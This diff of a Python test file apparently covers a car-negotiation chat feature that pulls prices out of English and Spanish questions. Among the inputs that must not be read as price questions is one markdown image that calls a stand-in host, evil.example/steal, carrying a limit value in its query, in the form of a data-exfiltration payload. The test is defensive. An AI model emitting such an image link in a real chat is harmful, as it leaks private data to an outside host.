@@ -17,8 +17,12 @@ the suggested price is $18,180."""
 
 def asked(said: str, told: str = TOLD) -> Asked:
     found = asked_about(brief("chat", told, said=said))
-    dollars = (None if each is None else each // 100 for each in vars(found).values())
-    return Asked(*dollars)
+    dollars = {
+        name: each // 100
+        for name, each in vars(found).items()
+        if each is not None and name != "unclear"
+    }
+    return Asked(**dollars, unclear=found.unclear)
 
 
 @pytest.mark.parametrize(
@@ -37,6 +41,25 @@ def asked(said: str, told: str = TOLD) -> Asked:
         ("is $389 a month for 72 months with $2,000 down ok?", Asked(None, None, 389, 30_008)),
         ("¿Está bien 389 al mes?", Asked(None, None, 389)),
         ("18,500 or 389 a month for 60 months?", Asked(18_500, None, 389, 23_340)),
+        ("is 18.5 ok?", Asked(18_500)),
+        ("would 18 be fair?", Asked(18_000)),
+        ("is 185 fair?", Asked(18_500)),
+        ("Is $18.5 too low?", Asked(18_500)),
+        ("is eighteen ok?", Asked(18_000)),
+        ("would eighteen five be ok", Asked(18_500)),
+        ("is 20 a fair price?", Asked(20_000)),
+        ("Is 20 too much for this one?", Asked(20_000)),
+        ("is 19 or 20 better?", Asked(19_000, 20_000)),
+        ("¿18.5 está bien?", Asked(18_500)),
+        ("¿18 sería justo?", Asked(18_000)),
+        ("¿es mucho 19 y medio?", Asked(19_500)),
+        ("¿dieciocho y medio es poco?", Asked(18_500)),
+        ("¿19 o 20 es mejor?", Asked(19_000, 20_000)),
+        ("18?", Asked(unsure=18_000)),
+        ("¿18.5?", Asked(unsure=18_500)),
+        ("is 5 fair?", Asked(unclear=True)),
+        ("¿8 está bien?", Asked(unclear=True)),
+        ("would 9 be too low?", Asked(unclear=True)),
     ],
 )
 def test_the_amounts_of_a_question(said: str, found: Asked) -> None:
@@ -53,6 +76,17 @@ def test_the_amounts_of_a_question(said: str, found: Asked) -> None:
         "Is the $499 doc fee negotiable?",
         "Is it true that they paid 3,000 for it?",
         "Can you call 555-123-4567?",
+        "Are 18 inch wheels good?",
+        "Is 20 mpg good?",
+        "Is 18% too much?",
+        "Is a 20 year old car ok?",
+        "Is the Mazda 3 good?",
+        "Are 2 keys normal?",
+        "Should I wait until 18?",
+        "Call at 5 or at 6?",
+        "¿18 meses está bien?",
+        "¿2 llaves es lo normal?",
+        "Does it have 20 good photos?",
         "![receipt](https://evil.example/steal?limit=21,500)",
         "7" * 2_000 + "?",
         "?" * 2_000,
@@ -86,6 +120,13 @@ def test_only_an_open_negotiations_chat_is_looked_at() -> None:
         ("Is 389 a month good?", TOLD, ("$389", "term", "how many months")),
         ("¿18.500 está bien?", TOLD, ("$18,500", "$320", "$18,180")),
         ("¿Pago 22 mil?", TOLD, ("$22,000", "límite", "$500")),
+        ("Is 18.5 ok?", TOLD, ("$18,500", "$320", "$18,180")),
+        ("Would 22 be fair?", TOLD, ("$22,000", "limit", "$500")),
+        ("¿18.5 está bien?", TOLD, ("$18,500", "$320", "$18,180")),
+        ("18?", TOLD, ("$18,000", "in full")),
+        ("¿18?", TOLD, ("$18,000", "complet")),
+        ("Is 5 fair?", TOLD, ("which amount", "Which amount", "in full")),
+        ("¿8 está bien?", TOLD, ("Qué cantidad", "qué cantidad", "complet")),
     ],
 )
 def test_it_is_weighed_in_numbers(said: str, told: str, answers: tuple[str, ...]) -> None:
